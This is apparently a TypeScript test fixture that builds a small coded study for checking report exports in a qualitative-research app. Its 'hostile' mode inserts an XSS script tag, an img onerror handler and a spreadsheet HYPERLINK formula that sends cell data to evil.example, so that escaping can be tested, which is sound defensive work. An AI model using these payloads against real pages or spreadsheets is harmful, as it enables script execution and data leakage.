import { codingWorkspace } from '../codingFixtures';

/**
 * A small study whose report numbers are worked out by hand in reports.test.ts:
 * Price (with children "Too expensive" and "Good value") and Delivery; Ana is coded twice with
 * "Too expensive"; Dee takes part but is never coded. `hostile` adds study text that tries to
 * run script or formulas in exports.
 */
export async function reportFixture(hostile = false) {
  const ws = await codingWorkspace();
  const { call } = ws;
  const t0 = hostile
    ? '<script>window.__pwned=1</script> The price is too high <img src=x onerror="window.__pwned=2">'
    : 'The price is too high for what you get.';
  const doc = ws.transcript([
    ['Ana', t0],
    ['Ben', 'Prices are too high and delivery was late.'],
    ['Ana', hostile ? '=HYPERLINK("http://evil.example/?"&A1,"click") good value overall' : 'Still, the quality is good value overall.'],
    ['Cai', 'Delivery was on time for me.'],
  ]);
  const price = await call('codes:create', {
    name: hostile ? 'Price <b>&amp;<i>' : 'Price',
    description: { definition: 'Anything about what things cost.' },
  });
  const tooExpensive = await call('codes:create', { name: 'Too expensive', parentId: price.id });
  const goodValue = await call('codes:create', { name: 'Good value', parentId: price.id });
  const delivery = await call('codes:create', { name: 'Delivery' });
  const nps = await call('attributes:create', { name: 'NPS', type: 'score', scaleKind: 'nps' });
  const segment = await call('attributes:create', { name: 'Area', type: 'category', options: ['Urban', 'Rural'] });
  const people = new Map((await call('participants:list', {})).map((p) => [p.displayName, p.id]));
  const dee = await call('participants:create', { displayName: 'Dee' });
  people.set('Dee', dee.id);
  const values: [string, number, string][] = [
    ['Ana', 10, 'Urban'],
    ['Ben', 3, 'Rural'],
    ['Cai', 8, 'Urban'],
    ['Dee', 2, 'Urban'],
  ];
  for (const [name, score, area] of values) {
    await call('participants:setValue', { participantId: people.get(name)!, attributeId: nps.id, value: score });
    await call('participants:setValue', { participantId: people.get(name)!, attributeId: segment.id, value: area });
    await call('participants:setSessionRole', { participantId: people.get(name)!, sessionId: ws.session.id, role: 'participant' });
  }
  const code = async (codeId: string, words: string, from = 0) => {
    const view = await call('documents:get', { id: doc });
    const start = view.text.indexOf(words, from);
    if (start < 0) throw new Error(`"${words}" not in document`);
    return call('codings:create', { documentId: doc, start, end: start + words.length, codeId });
  };
  const text = (await call('documents:get', { id: doc })).text;
  const c1 = await code(tooExpensive.id, hostile ? t0 : 'price is too high');
  await code(tooExpensive.id, 'Prices are too high');
  await code(delivery.id, 'delivery was late');
  await code(goodValue.id, 'good value overall');
  // Ana again with the same code, in another turn: she must still count once.
  await code(tooExpensive.id, hostile ? '=HYPERLINK("http://evil.example/?"&A1,"click") good value' : 'Still, the quality');
  await code(delivery.id, 'Delivery was on time for me.');
  await code(price.id, 'price', text.indexOf('price'));
  return { ...ws, doc, codes: { price, tooExpensive, goodValue, delivery }, attrs: { nps, segment }, people, c1 };
}
export type ReportFixture = Awaited<ReturnType<typeof reportFixture>>;
